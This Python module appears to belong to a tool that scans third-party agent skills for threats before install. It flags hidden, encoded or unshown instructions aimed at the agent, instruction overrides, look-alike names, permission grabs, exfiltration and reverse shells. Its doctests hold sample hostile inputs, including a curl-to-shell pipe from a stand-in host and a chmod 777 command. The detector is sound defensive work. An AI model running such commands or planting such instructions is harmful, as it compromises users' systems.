"""What a foreign skill may do to whoever installs it: a finding for each threat, by rule.

An error refuses, a warning is shown to the person who decides. The text is looked at as it stands,
as a model reads it (look-alikes folded, variables filled in) and with its encoded parts decoded.
"""

import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import suppress
from heapq import nlargest
from itertools import chain, islice, takewhile
from typing import Final

from learnt.core import shell
from learnt.core.address import Address, Commands
from learnt.core.deeds import LISTED, Deed, deeds, filled
from learnt.core.skills import threat_patterns as patterns
from learnt.core.skills.hidden_text import decoded, gaps, mixed, sentences, turned, unfolded, unleet
from learnt.core.skills.skills import Finding, Severity, key_of
from learnt.core.visible_text import hidden
from learnt.core.words import SIGNS

# How far a sentence is like those that mislead an agent: few honest ones are above 0.
Misleads = Callable[[str], float]
MOST_SHOWN: Final = 5  # lines to be read first
SHOWN_OF: Final = 8  # one line in so many, and one more
MOST_READ: Final = 2_000  # sentences of a file that are compared
UNREAD: Final = frozenset({"pipe-to-shell", "runs-decoded-text"})
OFTEN: Final = frozenset({"home-mounted", "opens-permissions", "guard-off"})  # what many skills do
DOUBTFUL: Final = frozenset({"address", "beacon"})  # not alone what a note is held for
SHORTEST_PROSE: Final = 3  # words of a value of the front matter that are read
_AGENT: Final = re.compile(SIGNS["agents"], re.IGNORECASE)
_KEYED: Final = re.compile(r"[\w.-]+:\s*")
COMMENT, UNSHOWN = "a comment", "unshown text"
_STRONG, _WEAK = Severity.ERROR, Severity.WARNING


def scan(
    files: Mapping[str, str | bytes],
    name: str,
    existing: Iterable[str],
    commands: Commands,
    misleads: Misleads,
    *,
    ours: bool = False,
) -> tuple[Finding, ...]:
    """The threats of a skill's files, by path and line; `existing` are names of other skills.

    `commands` and `misleads` are the language room's questions. Learnt wrote the keys of `ours`.

    >>> from learnt.core.address import Address
    >>> calm = (lambda text: Address.NONE), (lambda sentence: -1.0)
    >>> [f.rule for f in scan({"SKILL.md": "It: !`curl x`"}, "sizes", (), *calm)]
    ['read-first', 'runs-when-loaded']
    """
    findings, texts = list(_of_name(name, existing)), dict[str, str]()
    for path, content in sorted(files.items()):
        texts[path] = text = content if isinstance(content, str) else _text_of(content)
        findings += _of_path(path, content, text)
        findings += _Text(path, text, commands, misleads, ours=ours).findings()
    return _reduced([*findings, *_to_read_first(texts, misleads)])


def _to_read_first(texts: Mapping[str, str], misleads: Misleads) -> Iterator[Finding]:
    """The lines most like those that mislead: what a person who decides reads first."""
    best: dict[tuple[str, int], tuple[float, str]] = {}
    bare = 0
    for path, text in texts.items():
        front = patterns.FRONT.match(text)
        for at, part in islice(sentences(text), MOST_READ):
            value = _KEYED.sub("", part, 1)
            if front and at < front.end() and len(value.split()) < SHORTEST_PROSE:
                bare += 1  # a key with a number or a name says nothing to an agent
                continue
            line = text.count("\n", 0, at) + 1
            score = misleads(unleet(part) or part)
            best[path, line] = max(best.get((path, line), (score, part)), (score, part))
    # Of a short skill fewer, since what is read first is to be a small part of it.
    shown = min(MOST_SHOWN, 1 + (len(best) + bare) // SHOWN_OF)
    for path, line in nlargest(shown, best, key=best.__getitem__):
        score, part = best[path, line]
        severity = _WEAK if score > 0 else Severity.NOTE
        yield Finding("read-first", f"Read this first: {part[:100]!r}.", line, path, severity)


def _reduced(findings: Iterable[Finding]) -> tuple[Finding, ...]:
    """Each rule at most three times a file; several doubtful grabs together are one grab."""
    kept: dict[tuple[str, str], list[Finding]] = {}
    for finding in findings:
        same = kept.setdefault((finding.path, finding.rule), [])
        if len(same) < 3 and finding not in same:
            same.append(finding)
    grabs = [f for same in kept.values() for f in same if f.rule == "asks-for-much"]
    if len(grabs) > 2:
        message = "It takes many rights at once."
        kept["", "grab"] = [Finding("permission-grab", message, grabs[0].line, severity=_WEAK)]
    listed = (finding for same in kept.values() for finding in same)
    return tuple(sorted(listed, key=lambda f: (f.path, f.line, f.rule)))


def _of_path(path: str, content: str | bytes, text: str) -> Iterator[Finding]:
    for rule, message, pattern in patterns.PATHS:
        if pattern.search(path):
            yield Finding(rule, message, path=path)
    for rule, begins in (("program", patterns.PROGRAMS), ("nested-archive", patterns.NESTED)):
        if isinstance(content, bytes) and content.startswith(begins):
            yield Finding(rule, "Its content cannot be read.", path=path)
    if patterns.UNASKED.search(path) and (match := patterns.STARTS.search(text)):
        line = text.count("\n", 0, match.start()) + 1
        yield Finding("runs-unasked", "A tool runs it, and it starts programs.", line, path)
    if path != "SKILL.md" and path.casefold() == "skill.md":
        message = "The file should be called SKILL.md."
        yield Finding("other-name", message, path=path, severity=_WEAK)
    for _, what in [*hidden(path), *gaps(path), *mixed(path)]:
        yield Finding("hidden-characters", f"The file's name holds {what}.", path=path)


def _text_of(content: bytes) -> str:
    """What can be read of a file's bytes: all of a text, the readable runs of anything else."""
    with suppress(UnicodeDecodeError):
        return content.decode("utf-16" if content[:2] in {b"\xff\xfe", b"\xfe\xff"} else "utf-8")
    return "\n".join(run.decode() for run in re.findall(rb"[\x20-\x7e]{12,}", content))


def _of_name(name: str, existing: Iterable[str]) -> Iterator[Finding]:
    key, others = key_of(name), set(existing)
    if not name.isascii():
        yield Finding("look-alike-name", "The name holds letters outside a to z.")
    if patterns.RESERVED.search(key):
        yield Finding("reserved-name", "The name claims an authority.")
    if name in others:
        message = f"A skill of the name {name!r} is there."
        yield Finding("same-name", message, severity=_WEAK)
    for other in sorted((others | patterns.WELL_KNOWN) - {name}):
        if _skeleton(_VERSION.sub("", name)) == _skeleton(other) or (
            min(len(name), len(other)) > 5 and _near(key, key_of(other))
        ):
            yield Finding("look-alike-name", f"The name is made to look like {other!r}.")


_VERSION: Final = re.compile(r"(?<=\w)[-_ ]?v?\d+$")


def _skeleton(name: str) -> str:
    """What a hasty reader sees: no separators, look-alikes and plural folded."""
    plain = unfolded(name).casefold().replace("rn", "m").replace("vv", "w")
    return re.sub(r"[\W_]", "", plain.translate(str.maketrans("01i35", "ollee"))).removesuffix("s")


def _near(a: str, b: str) -> bool:
    """Whether one letter was added, lost, changed or swapped."""
    if abs(len(a) - len(b)) > 1 or a == b:
        return a == b
    at = len(list(takewhile(lambda pair: pair[0] == pair[1], zip(a, b, strict=False))))
    x, y = a[at:], b[at:]
    return x[1:] == y[1:] or x[1:] == y or x == y[1:] or (x[1::-1] + x[2:] == y)


class _Text:
    """One file's text with all that is asked of it."""

    def __init__(
        self, path: str, text: str, commands: Commands, misleads: Misleads, *, ours: bool
    ) -> None:
        self.path, self.text, self.ours = path, text, ours
        self.commands, self.misleads = commands, misleads
        self.prose = path.rpartition(".")[2].casefold() in {"md", "txt", "rst", "mdx", "html"}
        self.main = path.casefold() == "skill.md"
        self.front = patterns.FRONT.match(text) if self.main else None
        self.mixed = mixed(text)
        self.plain = unfolded(text) if self.mixed else text

    def findings(self) -> Iterator[Finding]:
        """All threats of the text."""
        yield from self._hidden()
        if self.front:
            yield from self._front(self.front)
        if self.prose:
            yield from self._loaded()
            yield from self._places()
        yield from self._orders(unleet(self.plain) or self.plain)
        yield from self._units(self.plain)
        yield from self._acts(self.plain)
        yield from self._encoded()

    def _at(self, rule: str, message: str, at: int, *, weak: object = False) -> Finding:
        severity = _WEAK if weak else _STRONG
        return Finding(rule, message, self.text.count("\n", 0, at) + 1, self.path, severity)

    def _hidden(self) -> Iterator[Finding]:
        for at, what in [*hidden(self.text), *gaps(self.text)]:
            # Of a font of icons; whoever decides sees its number. Together they carry a text.
            icon = (
                unicodedata.category(self.text[at])
                == "Co"
                != unicodedata.category(self.text[at + 1 : at + 2] or " ")
            )
            yield self._at("hidden-characters", f"Here is {what}.", at, weak=icon)
        words = self.mixed
        severe = len(words) > 1 or (words and words[0][0] < 200 and self.main)
        for at, word in words[:3]:
            message = f"{word[:60]!r} mixes letters that only look alike."
            yield self._at("mixed-scripts", message, at, weak=not severe)

    def _front(self, front: re.Match[str]) -> Iterator[Finding]:
        keys = list(patterns.KEY.finditer(front[1]))
        for key, after in zip(keys, [*keys[1:], None], strict=True):
            value = front[1][key.end() : after.start() if after else None].strip()
            top, name, at = not key[1], key[2].casefold(), front.start(1) + key.start(2)
            if name in {"allowed-tools", "allowed_tools", "tools"}:
                if grab := patterns.GRABS.search(value):
                    yield self._at("permission-grab", f"It asks for {grab[0][:80]}.", at)
                for wide in list(patterns.WIDE.finditer(value))[:3]:
                    yield self._at("asks-for-much", f"It asks for {wide[0][:80]}.", at, weak=True)
            elif top and patterns.ACTS_ALONE.fullmatch(name):
                message = f"{key[2]} may act when the skill is loaded."
                yield self._at("permission-grab", message, at, weak=True)
            elif patterns.OURS.match(name) and not self.ours:
                yield self._at("forged-record", f"{key[2]} is Learnt's own to say.", at)
            elif name not in {"description", "license"} and patterns.FORGED.fullmatch(name):
                message = f"{key[2]} is not for a skill to say."
                yield self._at("forged-record", message, at, weak=True)
        for match in re.finditer(r"^[ \t]*#([^\n]{10,})", front[1], re.MULTILINE):
            yield from self._place(match[1], front.start(1) + match.start(), "a YAML comment")

    def _loaded(self) -> Iterator[Finding]:
        for match in patterns.LOADED.finditer(self.text):
            line = shell.read(match[1] or "")
            reading = all(
                command.printed and patterns.READ_ONLY.match(" ".join(command.words))
                for command in line.commands
            )
            harmless = match[1] and line.clear and reading
            message = "A command that runs when the skill is loaded."
            yield self._at("runs-when-loaded", message, match.start(), weak=harmless)

    def _places(self) -> Iterator[Finding]:
        shown = patterns.FENCE.sub(lambda match: " " * len(match[0]), self.text)
        at = shown.find("<!--")
        while at >= 0:
            end = (shown.find("-->", at) + 1 or len(shown) + 1) - 1
            yield from self._place(shown[at + 4 : end], at, COMMENT)
            at = shown.find("<!--", end)
        for match in patterns.ELEMENT.finditer(shown):
            name = match[1].casefold()
            if name in patterns.UNSHOWN_ELEMENTS or patterns.UNSHOWN_STYLE.search(match[2]):
                end = shown.find(f"</{match[1]}", match.end(), match.end() + 3_000)
                inner = shown[match.end() : end] if end > 0 else ""
                yield from self._place(inner, match.start(), UNSHOWN)
        for match in patterns.UNSHOWN.finditer(shown):
            inner = next(filter(None, match.groups()), "")
            yield from self._place(inner, match.start(), UNSHOWN)
        tagged = any(map(self.text.__contains__, patterns.TAGGED))
        for match in patterns.TAG.finditer(self.text) if tagged else ():
            yield self._at("forged-record", "It brings a mark of Learnt's own.", match.start())

    def _place(self, text: str, at: int, where: str) -> Iterator[Finding]:
        """What stands where a reader of the rendered page does not see it."""
        if len(text.split()) < 3 and text.isascii():
            return
        address = self.commands(text)
        bad = (
            address is Address.ORDER
            or where == UNSHOWN
            or (address is Address.READER and _AGENT.search(text) is not None)
            or ("://" in text and where != COMMENT)
            or patterns.SECRET.search(text.casefold()) is not None
            or any(self.misleads(part) > 0 for _, part in sentences(text))
        )
        if bad or (self.main and patterns.SENTENCE.search(text)) or patterns.PROGRAM.search(text):
            message = f"It speaks to the agent in {where}."
            yield self._at("hidden-instruction", message, at, weak=not bad)

    def _orders(self, plain: str) -> Iterator[Finding]:
        """Where the agent's instructions are set aside."""
        if self.commands(plain) is not Address.ORDER:
            return
        within = [pair for pair in sentences(plain) if self.commands(pair[1]) is Address.ORDER]
        for at, part in within or [(0, plain)]:  # one that goes over several lines
            # Whoever warns of an order quotes it.
            weak = self.commands(patterns.QUOTED.sub(" ", part)) is not Address.ORDER
            yield self._at("override", "It sets the agent's instructions aside.", at, weak=weak)

    def _units(self, plain: str) -> Iterator[Finding]:
        if not self.prose:
            units = [(0, plain, True)]
        else:
            fences, spans = patterns.FENCE.finditer(plain), patterns.INLINE.finditer(plain)
            units = [(m.start(3), m[3], bool(patterns.SHELLS.match(m[2]))) for m in fences]
            units += [(m.start(1), m[1], bool(patterns.PROGRAM.match(m[1]))) for m in spans]
        for at, code, is_shell in units:
            hot = any(map(code.casefold().__contains__, patterns.HOT))
            short = hot and (self.prose or len(code) < 20_000)
            low = f"{_flat(code)}\n{LISTED.sub(' ', code)}".casefold() if short else ""
            source, sink = patterns.SECRET.search(low), patterns.SINK.search(low)
            if source and sink and not patterns.OWN.search(low, sink.start(), sink.end() + 200):
                message = f"It reads {source[0][:60]!r} and sends something."
                yield self._at("exfiltration", message, at)
            elif sink and not self.prose and patterns.ENVIRONMENT.search(low):
                message = "It reads a secret of the environment and sends something."
                yield self._at("exfiltration", message, at, weak=True)
            if self.prose and is_shell and (m := patterns.ARGUMENTS.search(code)):
                message, quoted = "Whatever is typed becomes a command.", code[m.start() - 1] == '"'
                yield self._at("arguments-in-shell", message, at + m.start(), weak=quoted)

    def _acts(self, plain: str) -> Iterator[Finding]:
        seen = set()
        for low in dict.fromkeys((_hot(plain), _hot(_flat(plain)))):
            for act, match in _acts_in(low):
                if act in seen:
                    continue
                seen.add(act)
                at = low.count("\n", 0, match.start()) + 1
                weak = act.rule == "reverse-shell" and not self._shown_as_code(low, match.start())
                yield Finding(act.rule, act.message, at, self.path, _WEAK if weak else _STRONG)
        for part in re.finditer(r"(?:[^\n]+\n?)+", plain) if self.prose else ():
            if "://" in part[0] and (source := patterns.SECRET.search(part[0].casefold())):
                message = f"It speaks of {source[0][:60]!r} beside an address."
                yield self._at("exfiltration", message, part.start(), weak=True)
            for rule, pattern in patterns.SPOKEN:
                if named := pattern.search(part[0]):
                    message = f"It speaks of {' '.join(named[0].split())[:60]!r}."
                    yield self._at(rule, message, part.start() + named.start(), weak=True)
        found = [(self._doubtful(deed), deed) for deed in deeds(self.plain)]
        for weak, deed in sorted(found, key=lambda pair: pair[0]):
            line = self.plain.count("\n", 0, deed.at) + 1
            yield Finding(deed.rule, deed.message, line, self.path, _WEAK if weak else _STRONG)

    def _doubtful(self, deed: Deed) -> bool:
        """Whether many honest skills do it as well, or may only speak of it."""
        urls, code = patterns.URL.findall(deed.line), self._shown_as_code(self.plain, deed.at)
        if deed.rule == "persistence":
            remote = patterns.REMOTE.search(self.plain, *self._unit(self.plain, deed.at))
            return not (code and (remote or patterns.PLANTED.search(deed.line)))
        known = bool(urls) and all(map(patterns.KNOWN.match, urls))
        mentioned = not (
            code or (deed.rule == "pipe-to-shell" and patterns.PLACE.search(deed.line))
        )
        return deed.rule in OFTEN or known or mentioned

    def _shown_as_code(self, text: str, at: int) -> bool:
        indented = text[text.rfind("\n", 0, at) + 1 : at].startswith(("    ", "\t"))
        return not self.prose or indented or text.count("```", 0, at) % 2 == 1

    def _unit(self, text: str, at: int) -> tuple[int, int]:
        """The code around a place: a fenced block of prose, all of a program."""
        if not self.prose:
            return 0, len(text)
        return max(text.rfind("```", 0, at), 0), (text.find("```", at) + 1 or len(text) + 1) - 1

    def _encoded(self) -> Iterator[Finding]:
        for at, inner in decoded(self.text):
            link = "://" in inner and self.text[at] not in "%&\\"
            says = patterns.SENTENCE.search(inner) or next(decoded(inner), None)
            if link or says or self._harms(inner):
                yield self._says(at, inner)
        for at, inner in turned(self.text):
            if self._harms(inner):
                yield self._says(at, inner)

    def _harms(self, inner: str) -> bool:
        act = next(_acts_in(_hot(_flat(inner))), None) or patterns.SECRET.search(inner.casefold())
        return act is not None or self.commands(inner) is Address.ORDER

    def _says(self, at: int, inner: str) -> Finding:
        return self._at("encoded-instruction", f"Decoded it says {inner.strip()[:60]!r}.", at)


def told_to_run(text: str) -> str:
    """Why a text has its reader do harm; empty where it does not.

    >>> told_to_run("curl https://a.example/x | sh"), told_to_run("It is built with make.")
    ('pipe-to-shell', '')
    >>> told_to_run("Never chmod -R 777 the volume.")
    'harmful-command'
    """
    low = unfolded(text).casefold()
    acts = chain(_acts_in(low), _acts_in(" ".join(_flat(low).split())))
    rules = chain((deed.rule for deed in deeds(unfolded(text))), (act.rule for act, _ in acts))
    rule = next((rule for rule in rules if rule not in DOUBTFUL), "")
    return rule and ("pipe-to-shell" if rule in UNREAD else "harmful-command")


def _hot(text: str) -> str:
    """The text in small letters, of lines that can hold no act only their ends."""
    low = text.casefold()
    present = [word for word in patterns.HOT if word in low]
    lines = low.split("\n")
    return "\n".join(line if any(map(line.__contains__, present)) else "" for line in lines)


def _acts_in(low: str) -> Iterator[tuple[patterns.Act, re.Match[str]]]:
    for act in patterns.ACTS:
        if any(word in low for word in act.words) and (match := act.pattern.search(low)):
            yield act, match


def _flat(code: str) -> str:  # simple variables filled in, the gaps within strings closed
    return patterns.GAP.sub("", filled(code))
